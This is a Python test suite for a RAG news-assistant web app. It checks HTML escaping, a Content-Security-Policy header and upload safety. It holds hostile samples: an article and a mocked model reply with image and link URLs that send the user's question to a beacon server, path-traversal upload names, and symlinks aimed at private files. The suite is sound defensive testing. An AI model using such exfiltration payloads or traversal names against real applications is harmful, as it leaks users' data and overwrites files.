"""Issue 12, items 3 and 4 (and item 1's UI part): the web UI with hostile articles and uploads.

The chat renders answers as text (HTML escaped, no images, nothing fetched), the page sends a
Content-Security-Policy with no remote sources; uploads never overwrite, never leave the data
folder, never write through a link, and files ingest would skip are refused before any write.
Real parts only: the app on 127.0.0.1, Debian's Chromium, a tiny HTTP server counting requests.
"""

from __future__ import annotations

import os
import shutil
import sys
import threading
import time
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from conftest import CHROMIUM, FLAGS, run_app

ROOT = Path(__file__).resolve().parents[1]
APP = Path(os.environ.get("APP_UNDER_TEST", ROOT / "app.py"))  # another app.py (e.g. the old one) to check against
MB = 1_000_000


def _app():
    """The module under test (APP_UNDER_TEST names another app.py, e.g. the code before a fix)."""
    import importlib.util

    spec = importlib.util.spec_from_file_location("app_under_test", APP)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


# --------------------------------------------------------------------------- a beacon server


class _Beacon:
    """A local HTTP server that counts every request it gets (any path)."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        beacon = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                beacon.requests.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def beacon():
    b = _Beacon()
    yield b
    b.close()


HOSTILE_TITLE = "Harbour of Quillon Bay gets a new ferry"


def _hostile_article(port: int) -> str:
    return (
        f"{HOSTILE_TITLE}\n\n"
        "The harbour of Quillon Bay opened a new ferry terminal on June 4, 2024.\n"
        f'The ferry skipper of Quillon Bay is Mr Barnaby Toller <img src="http://127.0.0.1:{port}/leak.png"> '
        f"![beacon](http://127.0.0.1:{port}/md.png) who has sailed the route for twelve years.\n"
        "The terminal cost 14 million dollars and serves 900 passengers a day.\n"
    )


@pytest.fixture(scope="module")
def app_server(tmp_path_factory, beacon):
    tmp = tmp_path_factory.mktemp("secapp")
    data = tmp / "articles"
    data.mkdir()
    for name in ("002_b018c1d0f2b14435.txt", "003_c9b450dc786981be.txt"):
        shutil.copy(ROOT / "data/articles" / name, data / name)
    (data / "quillon.txt").write_text(_hostile_article(beacon.port), encoding="utf-8")
    yield from _run_app(tmp, data, RAG_MAX_FILE_MB="0.01")


def _run_app(tmp: Path, data: Path, **extra: str):
    """Ingest `data` and serve the app under test on a free 127.0.0.1 port; yields (url, data)."""
    for url in run_app(tmp, data, APP, **extra):
        yield url, data


# --------------------------------------------------------------------------- item 3: rendering


def test_page_sends_a_csp_without_remote_sources(app_server):
    url, _ = app_server
    with urllib.request.urlopen(url, timeout=10) as response:
        csp = response.headers.get("Content-Security-Policy")
    assert csp, "the page has no Content-Security-Policy header"
    rules = {part.split()[0]: part.split()[1:] for part in csp.split(";") if part.strip()}
    for directive in ("img-src", "script-src", "connect-src", "default-src"):
        assert directive in rules, directive
        for source in rules[directive]:
            # Gradio needs inline scripts and styles, and gr.HTML compiles templates: no host is allowed.
            assert source in ("'self'", "'unsafe-inline'", "'unsafe-eval'", "data:", "blob:", "'none'"), (
                directive,
                source,
            )
    assert "*" not in csp and "http" not in csp and "ws:" not in csp


def test_browser_shows_article_html_as_text_and_fetches_nothing(app_server, beacon):
    from playwright.sync_api import sync_playwright

    url, _ = app_server
    assert Path(CHROMIUM).exists()
    beacon.requests.clear()
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        page = browser.new_page(viewport={"width": 1400, "height": 1000})
        console: list[str] = []
        page.on("console", lambda m: console.append(m.text))
        page.goto(url)
        page.wait_for_selector("#question textarea")
        page.fill("#question textarea", "Who is the ferry skipper of Quillon Bay?")
        page.press("#question textarea", "Enter")
        page.wait_for_selector("#sources mark", timeout=60000)
        page.wait_for_function(
            "() => /Barnaby Toller/.test(document.querySelector('#chat').innerText)", timeout=30000
        )
        time.sleep(1.5)  # give any image a chance to load
        chat = page.inner_text("#chat")
        sources = page.inner_text("#sources")
        images = page.eval_on_selector_all("#chat img, #sources img", "els => els.map(e => e.src)")
        links = page.eval_on_selector_all("#chat a, #sources a", "els => els.map(e => e.href)")
        errors = [m for m in console if "Content Security Policy" in m]
        browser.close()
    assert beacon.requests == [], f"the browser fetched {beacon.requests}"
    assert not [s for s in images if str(beacon.port) in s]
    assert not [h for h in links if str(beacon.port) in h]
    assert f'<img src="http://127.0.0.1:{beacon.port}/leak.png">' in chat  # the literal text, not an image
    assert f"![beacon](http://127.0.0.1:{beacon.port}/md.png)" in sources
    assert errors == [], errors  # the policy leaves Gradio working


def test_answer_bubble_is_escaped_text():
    app = _app()
    from rag import Answer

    text = 'Hi <img src="http://x/y.png"> ![a](http://x/q?who) [1]'
    answer = Answer(question="q", text=text, citations=[], refused=False, passages=[])
    shown = app.answer_markdown(answer)
    assert "<img" not in shown and "&lt;img" in shown
    assert app._plain([{"role": "assistant", "content": shown}])[0]["content"] == answer.text


# --------------------------------------------------------------------------- item 4: uploads


def _upload(tmp: Path, name: str, data: bytes) -> tuple[str, Path]:
    folder = tmp / f"upload-{len(list(tmp.glob('upload-*')))}"
    folder.mkdir()
    path = folder / "file.txt"
    path.write_bytes(data)
    return name, path


ARTICLE = b"Quokka pact signed\n\nThe mayor of Quokka Island signed a seaweed farming pact on May 3, 2024.\n"


def _files(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if not p.is_symlink()}


def test_upload_named_like_an_existing_file_keeps_it(tmp_path):
    app = _app()
    data = tmp_path / "data"
    data.mkdir()
    (data / "news.txt").write_bytes(b"Original\n\nThe original article stays.\n")
    written, messages = app.save_uploads([_upload(tmp_path, "news.txt", ARTICLE)], data, MB)
    assert (data / "news.txt").read_bytes() == b"Original\n\nThe original article stays.\n"
    assert written == [data.resolve() / "news-2.txt"] and (data / "news-2.txt").read_bytes() == ARTICLE
    assert any("news-2" in m and "kept" in m for m in messages)
    # The same bytes again: nothing new is written.
    written, messages = app.save_uploads([_upload(tmp_path, "news.txt", ARTICLE)], data, MB)
    assert written == [] and set(_files(data)) == {"news.txt", "news-2.txt"}
    assert any("same text" in m for m in messages)


@pytest.mark.parametrize(
    ("name", "data", "reason"),
    [
        ("big.txt", b"Big\n\n" + b"The long article goes on and on. " * 40_000, "limit"),
        (".hidden.txt", ARTICLE, "hidden"),
        ("report.pdf", ARTICLE, ".txt and .md"),
        ("noext", ARTICLE, ".txt and .md"),
        ("binary.txt", b"\x00\x01\x02PK\x03\x04" * 100, "binary"),
        ("latin1.txt", "Café au lait\n\nLe café coûte 3 euros.\n".encode("latin-1"), "UTF-8"),
        ("empty.txt", b"   \n", "empty"),
    ],
)
def test_uploads_ingest_would_skip_are_refused_before_writing(tmp_path, name, data, reason):
    app = _app()
    folder = tmp_path / "data"
    folder.mkdir()
    written, messages = app.save_uploads([_upload(tmp_path, name, data)], folder, MB)
    assert written == [] and list(folder.iterdir()) == []
    assert len(messages) == 1 and "refused" in messages[0] and reason in messages[0], messages


@pytest.mark.parametrize(
    "name", ["../../escape.txt", "a/../../escape.txt", "..\\..\\escape.txt", "/tmp/escape.txt", "x\x1b[31m\n.txt"]
)
def test_upload_names_never_leave_the_data_folder(tmp_path, name):
    app = _app()
    data = tmp_path / "deep" / "data"
    data.mkdir(parents=True)
    written, messages = app.save_uploads([_upload(tmp_path, name, ARTICLE)], data, MB)
    outside = [p for p in tmp_path.rglob("*") if p.is_file() and data not in p.parents and "upload-" not in str(p)]
    assert outside == []
    for path in written:
        assert path.parent == data.resolve()
        assert "/" not in path.name and "\\" not in path.name and ".." not in path.name
        assert all(ord(ch) >= 32 for ch in path.name)
    assert written or any("refused" in m for m in messages)


def test_upload_never_writes_through_a_link(tmp_path):
    app = _app()
    data = tmp_path / "data"
    data.mkdir()
    private = tmp_path / "private.txt"
    private.write_text("secret, must survive\n", encoding="utf-8")
    (data / "notes.txt").symlink_to(private)
    (data / "dangling.txt").symlink_to(tmp_path / "created-outside.txt")
    written, _ = app.save_uploads(
        [_upload(tmp_path, "notes.txt", ARTICLE), _upload(tmp_path, "dangling.txt", ARTICLE)], data, MB
    )
    assert private.read_text(encoding="utf-8") == "secret, must survive\n"
    assert not (tmp_path / "created-outside.txt").exists()
    assert sorted(p.name for p in written) == ["dangling-2.txt", "notes-2.txt"]
    assert all(not p.is_symlink() and p.read_bytes() == ARTICLE for p in written)


def test_article_view_serves_only_files_inside_the_data_folder(tmp_path):
    app = _app()
    data = tmp_path / "data"
    data.mkdir()
    (data / "ok.txt").write_text("inside\n", encoding="utf-8")
    private = tmp_path / "private.txt"
    private.write_text("secret\n", encoding="utf-8")
    (data / "link.txt").symlink_to(private)
    assert app.article_text(data, str(data / "ok.txt")) == "inside\n"
    assert "secret" not in app.article_text(data, str(data / "link.txt"))
    assert "secret" not in app.article_text(data, str(private))
    assert "secret" not in app.article_text(data, str(data / ".." / "private.txt"))
    # A store from elsewhere whose recorded path was refused (rag.article_roots) says why, not nothing.
    assert app.article_text(data, None).startswith("Not shown: no file of this article is inside the articles folder")


def test_browser_client_upload_keeps_the_existing_article(app_server, tmp_path):
    """Through the running app: an upload named like an article is stored beside it."""
    from gradio_client import Client, handle_file

    url, data = app_server
    before = (data / "quillon.txt").read_bytes()
    upload = tmp_path / "quillon.txt"
    upload.write_text(
        "Otter census\n\nThe otter census of Quillon Bay counted 57 otters in March 2024.\n", encoding="utf-8"
    )
    client = Client(url, verbose=False)
    result = client.predict([handle_file(str(upload))], api_name="/upload")
    assert (data / "quillon.txt").read_bytes() == before
    assert (data / "quillon-2.txt").read_text(encoding="utf-8").startswith("Otter census")
    assert "added 1" in result[0] and "quillon-2" in result[0]
    big = tmp_path / "big.txt"
    big.write_text("Big\n\n" + "A sentence about nothing at all. " * 1000, encoding="utf-8")  # over 0.01 MB
    result = client.predict([handle_file(str(big))], api_name="/upload")
    assert "refused" in result[0] and "limit" in result[0] and not (data / "big.txt").exists()


def test_client_uploads_refused_or_renamed_write_nothing_outside(app_server, tmp_path):
    """Through the running app: skipped kinds of file are not written; a link in the folder is not written through."""
    from gradio_client import Client, handle_file

    url, data = app_server
    client = Client(url, verbose=False)
    binary = tmp_path / "binary.txt"
    binary.write_bytes(b"\x00\x01\x02PK\x03\x04" * 100)
    hidden = tmp_path / ".hidden.txt"
    hidden.write_text("Hidden\n\nThe hidden article says hello to the otters.\n", encoding="utf-8")
    result = client.predict([handle_file(str(binary)), handle_file(str(hidden))], api_name="/upload")
    assert not (data / "binary.txt").exists() and not (data / ".hidden.txt").exists()
    assert result[0].count("refused") == 2, result[0]

    private = tmp_path / "private.txt"
    private.write_text("a private file outside the articles folder\n", encoding="utf-8")
    (data / "linked.txt").symlink_to(private)
    upload = tmp_path / "up" / "linked.txt"
    upload.parent.mkdir()
    upload.write_text("Linked\n\nThe linked upload mentions 31 pelicans in Quillon Bay.\n", encoding="utf-8")
    client.predict([handle_file(str(upload))], api_name="/upload")
    assert private.read_text(encoding="utf-8") == "a private file outside the articles folder\n"
    assert (data / "linked-2.txt").read_text(encoding="utf-8").startswith("Linked")


# --------------------------------------------------------------------------- a model's reply


@pytest.fixture(scope="module")
def llm_app(tmp_path_factory):
    sys.path.insert(0, str(ROOT / "tests"))
    from openai_server import OpenAIServer

    tmp = tmp_path_factory.mktemp("llmapp")
    data = tmp / "articles"
    shutil.copytree(ROOT / "data/articles", data)
    with OpenAIServer() as server:
        extra = dict(
            RAG_LLM="openai",
            OPENAI_BASE_URL=server.url,
            OPENAI_API_KEY="test-key",
            RAG_OPENAI_MODEL="test-model",
            RAG_OPENAI_ATTEMPTS="1",
            RAG_UNSUPPORTED="flag",  # the unverified image sentence stays in the answer, marked
        )
        for url, _ in _run_app(tmp, data, **extra):
            yield url, server


def test_browser_model_reply_with_images_and_links_loads_nothing(llm_app, beacon):
    """A reply carrying markdown and HTML images (the question in the URL) is shown as text, never fetched."""
    import re

    from openai_server import Reply
    from playwright.sync_api import sync_playwright

    url, server = llm_app
    beacon.requests.clear()
    leak = f"http://127.0.0.1:{beacon.port}/q?asked=vietnamese"

    def respond(request):
        first = re.search(r"<passage id=1[^>]*>\n(.*?)\n</passage>", request.user, re.S).group(1)
        sentence = max(re.split(r"(?<=[.!?])\s+", first.strip()), key=len)
        return Reply(f'{sentence} [1] ![chart]({leak}) <img src="{leak}&html=1"> [link]({leak}&a=1) [1]')

    server.respond(respond)
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        page = browser.new_page(viewport={"width": 1400, "height": 1000})
        page.goto(url)
        page.wait_for_selector("#question textarea")
        page.fill("#question textarea", "How many Vietnamese live in the US?")
        page.press("#question textarea", "Enter")
        page.wait_for_selector("#sources .citation, #sources .refusal, #sources .unsupported", timeout=60000)
        time.sleep(1.5)
        images = page.eval_on_selector_all("#chat img, #sources img", "els => els.map(e => e.src)")
        links = page.eval_on_selector_all("#chat a, #sources a", "els => els.map(e => e.href)")
        shown = page.inner_text("#chat") + page.inner_text("#sources")
        browser.close()
    assert server.chat_requests, "the model was not asked"
    assert beacon.requests == [], f"the browser fetched {beacon.requests}"
    assert not [s for s in images if str(beacon.port) in s] and not [h for h in links if str(beacon.port) in h]
    assert f'<img src="{leak}&html=1">' in shown, shown  # shown as text, not loaded
